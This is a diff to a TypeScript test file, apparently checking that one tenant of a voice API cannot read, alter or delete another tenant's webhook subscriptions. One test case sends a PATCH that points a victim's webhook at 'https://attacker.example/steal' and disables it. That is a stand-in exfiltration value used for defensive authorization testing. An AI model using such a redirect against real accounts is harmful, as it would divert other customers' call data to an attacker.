@@ -29,6 +29,8 @@ interface Victim {
   readonly number: string;
   /** A live call record of the victim's. */
   readonly callId: string;
+  /** A webhook subscription of the victim's. */
+  readonly webhookHash: string;
 }
 
 interface RouteCase {
@@ -65,6 +67,24 @@ export const OBJECT_ROUTES: readonly RouteCase[] = [
     method: 'GET',
     pattern: '/voxgate/v1/numbers/:number',
     request: (v) => ({ url: `/voxgate/v1/numbers/${v.number}` }),
+  },
+  {
+    method: 'GET',
+    pattern: '/voxgate/v1/webhooks/:hash',
+    request: (v) => ({ url: `/voxgate/v1/webhooks/${v.webhookHash}` }),
+  },
+  {
+    method: 'PATCH',
+    pattern: '/voxgate/v1/webhooks/:hash',
+    request: (v) => ({
+      url: `/voxgate/v1/webhooks/${v.webhookHash}`,
+      payload: { endpoint: 'https://attacker.example/steal', status: 'DISABLED' },
+    }),
+  },
+  {
+    method: 'DELETE',
+    pattern: '/voxgate/v1/webhooks/:hash',
+    request: (v) => ({ url: `/voxgate/v1/webhooks/${v.webhookHash}` }),
   },
   {
     method: 'PUT',
@@ -233,7 +253,15 @@ async function victimOf(
 ): Promise<Victim> {
   const scenarioId = await ownScenario(testApp, tenant);
   const key = await ownKey(testApp, tenant);
+  const webhook = await testApp.app.inject({
+    method: 'POST',
+    url: '/voxgate/v1/webhooks',
+    headers: bearer(tenant.key),
+    payload: { type: 'call.inbound_hangup', endpoint: 'https://victim.example/hooks' },
+  });
+  assert.equal(webhook.statusCode, 201, webhook.body);
   return {
+    webhookHash: webhook.json<{ hash: string }>().hash,
     accountId: tenant.accountId,
     keyPrefix: key.prefix,
     keyId: key.id,
@@ -256,6 +284,7 @@ async function snapshot(testApp: TestApp, tenant: TenantFixture): Promise<string
     await read('/voice/ivr/1/scenarios'),
     await read('/voxgate/v1/numbers'),
     await read('/voxgate/v1/calls'),
+    await read('/voxgate/v1/webhooks'),
   ]);
 }
 
